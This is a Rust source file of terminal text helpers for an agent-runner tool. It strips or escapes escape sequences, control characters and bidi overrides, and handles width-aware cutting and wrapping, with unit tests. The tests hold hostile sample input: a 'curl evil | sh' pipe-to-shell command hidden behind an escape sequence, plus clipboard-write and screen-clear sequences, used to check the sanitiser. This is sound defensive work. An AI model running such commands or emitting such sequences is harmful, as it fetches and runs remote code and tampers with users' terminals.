//! Small text helpers for the terminal (cockpit cells, CLI tables): cutting to width, paths
//! with `~`, token and cost figures, and making agent-written text safe to print.

use std::borrow::Cow;
use std::path::Path;

use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// Text an agent wrote, made safe for a terminal on one line: escape sequences (colours,
/// title changes, clear screen, OSC 52 clipboard writes) are dropped, line breaks and tabs
/// become spaces, any other control character shows as `�`, and bidi overrides are written
/// out escaped (`\u{202e}`), so nothing reorders what is around them. Agents print whatever
/// they like; the user's terminal must only ever receive text.
pub fn printable(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| is_unsafe(c) || is_bidi(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            // C1 CSI / OSC / DCS etc. introduce sequences just like ESC [ and ESC ].
            '\u{9b}' => skip_until_final(&mut chars),
            '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            '\n' | '\r' | '\t' => out.push(' '),
            c if is_unsafe(c) => out.push('\u{fffd}'),
            c if is_bidi(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Text from a repository, an agent or a file name, shown to a person who must see exactly what
/// it holds: control characters, escape sequences and bidi overrides are written out escaped
/// (`\e[8m`, `\n`, `\u{202e}`), never sent to the terminal, so nothing can be hidden or
/// reordered in what the person reads before trusting it.
pub fn escaped(s: &str) -> Cow<'_, str> {
    let hidden = |c: char| is_unsafe(c) || is_bidi(c);
    if !s.chars().any(hidden) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\u{1b}' => out.push_str("\\e"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if hidden(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Program output as plain text: escape sequences (colours, cursor moves, OSC strings) are
/// dropped and everything else, line breaks included, is kept, so a pattern meant for what a
/// person reads (Vite's coloured `ready in 123 ms`) matches what the program wrote.
pub fn without_escapes(s: &str) -> Cow<'_, str> {
    if !s.contains(['\u{1b}', '\u{9b}']) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => skip_until_final(&mut chars),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Characters that reorder or hide the text around them (bidi embeddings, overrides, isolates
/// and marks).
fn is_bidi(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn is_unsafe(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// After ESC: CSI (`[` … final byte), OSC/DCS/PM/APC/SOS (… BEL or ESC \\), or a two-byte escape.
fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    match chars.next() {
        Some('[') => skip_until_final(chars),
        Some(']' | 'P' | '^' | '_' | 'X') => skip_string(chars),
        // `ESC ( B` and friends carry one more byte.
        Some('(' | ')' | '*' | '+' | '-' | '.' | '/' | '#' | '%' | ' ') => {
            chars.next();
        }
        _ => {}
    }
}

/// CSI parameters and intermediates run until a final byte in `@`..=`~`.
fn skip_until_final(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    for c in chars.by_ref() {
        if ('@'..='~').contains(&c) {
            return;
        }
    }
}

/// A control string ends at BEL, ST (`ESC \\`) or the C1 ST.
fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' => {
                if chars.peek() == Some(&'\\') {
                    chars.next();
                }
                return;
            }
            _ => {}
        }
    }
}

/// How many terminal columns `s` takes (wide CJK and emoji count two).
pub fn width(s: &str) -> usize {
    UnicodeWidthStr::width(s)
}

fn char_width(c: char) -> usize {
    UnicodeWidthChar::width(c).unwrap_or(0)
}

/// The longest prefix of `s` that fits in `max` columns.
fn take_width(s: &str, max: usize) -> &str {
    let mut used = 0;
    for (i, c) in s.char_indices() {
        used += char_width(c);
        if used > max {
            return &s[..i];
        }
    }
    s
}

/// `s` without its first `cols` columns (a wide character cut in two goes whole).
pub fn skip_width(s: &str, cols: usize) -> &str {
    let mut used = 0;
    for (i, c) in s.char_indices() {
        if used >= cols {
            return &s[i..];
        }
        used += char_width(c);
    }
    ""
}

/// The longest suffix of `s` that fits in `max` columns.
fn take_width_end(s: &str, max: usize) -> &str {
    let mut used = 0;
    for (i, c) in s.char_indices().rev() {
        used += char_width(c);
        if used > max {
            return &s[i + c.len_utf8()..];
        }
    }
    s
}

/// Cut to `max` columns of display width, ending in `…` when cut; always printable.
pub fn cut(s: &str, max: usize) -> String {
    let s = &*printable(s);
    if width(s) <= max {
        return s.to_string();
    }
    if max == 0 {
        return String::new();
    }
    let mut t = take_width(s, max - 1).to_string();
    t.push('…');
    t
}

/// Cut in the middle, keeping both ends: `~/src/…/app/3kq7x2ab`.
pub fn cut_middle(s: &str, max: usize) -> String {
    if width(s) <= max {
        return s.to_string();
    }
    if max < 3 {
        return cut(s, max);
    }
    let keep = max - 1;
    let head = keep / 2;
    let tail = keep - head;
    format!("{}…{}", take_width(s, head), take_width_end(s, tail))
}

/// Break `s` into lines of at most `max` columns, at spaces where it can, inside a word
/// where it must. Line breaks in `s` are kept.
pub fn wrap(s: &str, max: usize) -> Vec<String> {
    let max = max.max(1);
    let mut out = Vec::new();
    for para in s.split('\n') {
        let mut line = String::new();
        for word in para.split(' ') {
            let sep = usize::from(!line.is_empty());
            if width(&line) + sep + width(word) <= max {
                if sep == 1 {
                    line.push(' ');
                }
                line.push_str(word);
                continue;
            }
            if !line.is_empty() {
                out.push(std::mem::take(&mut line));
            }
            let mut rest = word;
            while width(rest) > max {
                let mut head = take_width(rest, max);
                if head.is_empty() {
                    // One character wider than the line: it goes alone.
                    head = &rest[..rest.chars().next().map_or(rest.len(), char::len_utf8)];
                }
                out.push(head.to_string());
                rest = &rest[head.len()..];
            }
            line.push_str(rest);
        }
        out.push(line);
    }
    out
}

/// `~` for the home directory.
pub fn tilde(p: &Path, home: Option<&Path>) -> String {
    if let Some(h) = home {
        if let Ok(rest) = p.strip_prefix(h) {
            return if rest.as_os_str().is_empty() {
                "~".into()
            } else {
                format!("~/{}", rest.display())
            };
        }
    }
    p.display().to_string()
}

/// `950`, `12.3k`, `4.5M`.
pub fn count(n: u64) -> String {
    match n {
        0 => "-".into(),
        n if n < 1000 => n.to_string(),
        n if n < 1_000_000 => format!("{:.1}k", n as f64 / 1000.0),
        n => format!("{:.1}M", n as f64 / 1_000_000.0),
    }
}

pub fn cost(c: Option<f64>) -> String {
    match c {
        None => "-".into(),
        Some(c) if c < 10.0 => format!("${c:.2}"),
        Some(c) => format!("${c:.0}"),
    }
}

/// The first line of a task, with `…` when there is more.
pub fn first_line(s: &str) -> String {
    let mut lines = s.lines();
    // A task is read before it is acted on: anything odd in it is shown, not dropped.
    let first = escaped(lines.next().unwrap_or("")).into_owned();
    if lines.next().is_some() {
        format!("{first} …")
    } else {
        first
    }
}

/// `body` in a Markdown code block whose fence is longer than any run of backticks in it, so
/// nothing inside can close the block early.
pub fn fenced(lang: &str, body: &str) -> String {
    let longest = body.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}{lang}\n{}\n{fence}\n", body.trim_end_matches('\n'))
}

/// A repository's directory name (`app` for `/home/me/src/app`), printable.
pub fn repo_name(p: &Path) -> String {
    let name = p
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| p.display().to_string());
    printable(&name).into_owned()
}

/// A path cut from the left at its `/`s, so the end (a run's own directory) stays whole:
/// `…/worktrees/app/run00002`. When even the last part is too wide, its end with `…`.
pub fn cut_path_left(s: &str, max: usize) -> String {
    let s = &*printable(s);
    if width(s) <= max {
        return s.to_string();
    }
    if max == 0 {
        return String::new();
    }
    let mut rest = s;
    while let Some(i) = rest[1..].find('/') {
        rest = &rest[i + 1..];
        if width(rest) < max {
            return format!("…{rest}");
        }
    }
    format!("…{}", take_width_end(s, max - 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn without_escapes_keeps_the_text_and_its_lines() {
        // Vite 8.4.0's banner with FORCE_COLOR set, byte for byte.
        let vite = "\n  \u{1b}[32m\u{1b}[1mVITE\u{1b}[22m v8.4.0\u{1b}[39m  \u{1b}[2mready in \u{1b}[0m\u{1b}[1m779\u{1b}[22m\u{1b}[2m\u{1b}[0m ms\u{1b}[22m\n\n";
        assert_eq!(
            without_escapes(vite),
            "\n  VITE v8.4.0  ready in 779 ms\n\n"
        );
        assert_eq!(
            without_escapes("a\u{1b}]0;title\u{7}b\u{9b}1mc\r\n"),
            "abc\r\n"
        );
        assert!(matches!(
            without_escapes(" ✓ Ready in 1234ms"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn escaped_shows_what_would_be_hidden() {
        assert_eq!(escaped("npm ci"), "npm ci");
        assert_eq!(
            escaped("\u{1b}]0;PWNED\u{7}npm ci\u{1b}[8m; curl evil | sh"),
            "\\e]0;PWNED\\u{7}npm ci\\e[8m; curl evil | sh"
        );
        assert_eq!(escaped("a\u{202e}b\nc"), "a\\u{202e}b\\nc");
        assert!(!escaped("\u{9b}31m").chars().any(|c| c.is_control()));
    }

    #[test]
    fn cutting() {
        assert_eq!(cut("abcdef", 4), "abc…");
        assert_eq!(cut("abc", 4), "abc");
        assert_eq!(cut_middle("/home/me/src/app/run", 11), "/home…p/run");
        assert_eq!(cut_middle("short", 10), "short");
        assert_eq!(
            tilde(Path::new("/home/me/x"), Some(Path::new("/home/me"))),
            "~/x"
        );
        assert_eq!(count(12_345), "12.3k");
        assert_eq!(cost(Some(0.4211)), "$0.42");
    }

    #[test]
    fn paths_are_cut_from_the_left_at_a_slash() {
        let p = "~/.local/share/flightdeck/worktrees/app/run00002";
        assert_eq!(cut_path_left(p, 60), p);
        assert_eq!(cut_path_left(p, 24), "…/worktrees/app/run00002");
        assert_eq!(cut_path_left(p, 14), "…/app/run00002");
        assert_eq!(cut_path_left(p, 9), "…run00002");
        assert_eq!(cut_path_left(p, 10), "…/run00002");
        assert_eq!(cut_path_left(p, 5), "…0002");
        assert!(width(&cut_path_left(p, 20)) <= 20);
        assert_eq!(repo_name(Path::new("/home/me/src/app")), "app");
    }

    #[test]
    fn cutting_counts_display_width() {
        // Each of these takes two columns.
        assert_eq!(cut("日本語のテキスト", 7), "日本語…");
        assert_eq!(width(&cut("日本語のテキスト", 7)), 7);
        assert_eq!(cut("日本", 4), "日本");
        assert_eq!(cut_middle("日本語のテキスト", 9), "日本…スト");
    }

    #[test]
    fn wrapping_at_spaces_and_inside_long_words() {
        assert_eq!(wrap("one two three", 7), vec!["one two", "three"]);
        assert_eq!(wrap("abcdefghij", 4), vec!["abcd", "efgh", "ij"]);
        assert_eq!(wrap("a\nb", 10), vec!["a", "b"]);
        assert!(wrap(&"word ".repeat(40), 80).iter().all(|l| width(l) <= 80));
    }

    #[test]
    fn escapes_never_reach_the_terminal() {
        let nasty = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[32mgreen\u{1b}[0m \u{1b}]52;c;ZXZpbA==\u{1b}\\done\u{1b}(B\u{9b}31mx\u{8}\u{7f}\ny";
        let clean = printable(nasty);
        assert_eq!(clean, "green donex\u{fffd}\u{fffd} y");
        assert!(!clean.chars().any(|c| c.is_control()), "{clean:?}");
        assert!(matches!(printable("plain text"), Cow::Borrowed(_)));
        // An unterminated sequence swallows the rest rather than leaking a half.
        assert_eq!(printable("ok\u{1b}]52;c;abc"), "ok");
    }
}
